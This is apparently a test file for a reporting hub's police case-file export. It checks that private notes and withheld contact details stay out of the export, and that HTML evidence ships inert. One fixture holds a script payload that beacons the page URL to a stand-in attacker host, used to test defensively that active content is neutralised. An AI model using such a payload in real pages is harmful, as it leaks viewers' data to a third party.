/**
 * Issue 17, findings 2 and 4, in the police case file:
 * - 2: an HTML snapshot left as `evidence/<sha>.html`, and opening it from the unzipped folder ran its script on
 *   the officer's machine. It must leave as an inert `.html.txt`, still listed in SHA256SUMS.
 * - 4: `addNote` audits the note body and the case file exported every audit row, so "lives at 1 Secret Lane" on a
 *   report with `shareContact: false` reached the police. The case file's chain of custody carries who did what and
 *   when (action, actor, time, status before and after), never a note's body, the public note's words or contact
 *   details.
 * Through the workflow's own functions and the referral's own loaders, on PGlite and on PostgreSQL.
 */
import { strFromU8, unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildCaseFile, SUMS_FILE } from '../../../hub/console/referrals/case-file';
import { loadAudit, loadReports } from '../../../hub/console/referrals/sources';
import { revealContact } from '../../../hub/domain/audit';
import { addNote, assign, changeStatus, setPublicNote } from '../../../hub/domain/workflow';
import { sha256Hex } from '../../../lib/hash';
import { seedReport } from './console-queue-fixtures';
import { openTestDatabase, type TestDatabase } from './helpers';

const MODERATOR = '00000000-0000-4000-8000-0000000000b2';
const SECRETS = ['1 Secret Lane', 'jo@secret.example', '7700 900123', 'after 6pm', 'Jo Secretname', 'call 0800 PRIVATE'];
const SNAPSHOT = new TextEncoder().encode('<!doctype html><script>new Image().src="https://attacker.example/b?"+location.href</script>');
const LIVE = /\.(html?|xhtml|svg|xml|mht(ml)?)$/i;

describe('the police case file', () => {
  let test: TestDatabase;
  let reference: string;
  let sha256: string;

  beforeAll(async () => {
    test = await openTestDatabase();
    const db = test.db;
    await db.query(`INSERT INTO moderators (id, email, password_hash, role) VALUES ($1, 'officer-liaison@hub.example', 'x', 'moderator')`, [MODERATOR]);
    sha256 = await sha256Hex(SNAPSHOT);
    reference = await seedReport(db, {
      reporter: {
        role: 'victim',
        anonymous: false,
        name: 'Jo Secretname',
        email: 'jo@secret.example',
        phone: '+44 7700 900123',
        contact: { channel: 'email', safeTimes: 'after 6pm' },
        // The police may be told, but the reporter's contact details may not be shared.
        consents: { police: true, platform: true, shareContact: false, supportReferral: false },
        wantsSupport: false,
      },
      items: [{ captureMethod: 'manual', evidence: [{ sha256, mediaType: 'text/html', bytes: SNAPSHOT.byteLength, kind: 'html_snapshot' }] }],
    });
    expect(await addNote(db, { reference, actorId: MODERATOR, body: 'Spoke to her: lives at 1 Secret Lane, jo@secret.example' })).toEqual({ kind: 'done' });
    expect(await changeStatus(db, { reference, actorId: MODERATOR, to: 'in_review' })).toEqual({ kind: 'done' });
    expect(await assign(db, { reference, actorId: MODERATOR, assigneeId: MODERATOR })).toEqual({ kind: 'done' });
    expect(await setPublicNote(db, { reference, actorId: MODERATOR, note: 'We will call 0800 PRIVATE' })).toEqual({ kind: 'done' });
    await revealContact(db, reference, MODERATOR);
  }, 60_000);
  afterAll(() => test?.dispose());

  async function caseFile() {
    const reports = await loadReports(test.db, [reference]);
    const audit = await loadAudit(test.db, [reference]);
    const result = await buildCaseFile({
      organisation: 'Hub',
      generatedAt: '2026-11-25T12:00:00.000Z',
      reports,
      evidence: [{ sha256, mediaType: 'text/html', bytes: SNAPSHOT }],
      audit,
    });
    if (!result.ok) throw new Error('no case file');
    return unzipSync(result.bytes);
  }

  it('holds no internal note, public-note words or withheld contact detail anywhere', async () => {
    const files = await caseFile();
    for (const [name, bytes] of Object.entries(files)) {
      if (name.startsWith('evidence/')) continue;
      const text = strFromU8(bytes);
      for (const secret of SECRETS) expect(text, `${name} holds "${secret}"`).not.toContain(secret);
    }
  });

  it('carries the chain of custody: who did what and when, status before and after', async () => {
    const files = await caseFile();
    const trail = JSON.parse(strFromU8(files['audit-trail.json']!)) as Array<Record<string, unknown>>;
    expect(trail.map((entry) => entry.action)).toEqual(['note', 'status', 'assign', 'public_note', 'contact.reveal']);
    for (const entry of trail) {
      expect(entry.actor).toBe('officer-liaison@hub.example');
      expect(entry.reference).toBe(reference);
      expect(entry.at).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{6}Z$/);
    }
    expect(trail[1]).toMatchObject({ statusBefore: 'received', statusAfter: 'in_review' });
    expect(Object.keys(trail[0]!).sort()).toEqual(['action', 'actor', 'at', 'reference']);
    const summary = strFromU8(files['summary.txt']!);
    expect(summary).toContain('received → in_review');
  });

  it('ships the HTML snapshot only as an inert .html.txt, listed in SHA256SUMS', async () => {
    const files = await caseFile();
    const names = Object.keys(files);
    expect(names.filter((name) => LIVE.test(name))).toEqual(['summary.html']);
    expect(files[`evidence/${sha256}.html.txt`]).toEqual(SNAPSHOT);
    expect(strFromU8(files[SUMS_FILE]!)).toContain(`${sha256}  evidence/${sha256}.html.txt\n`);
  });
});
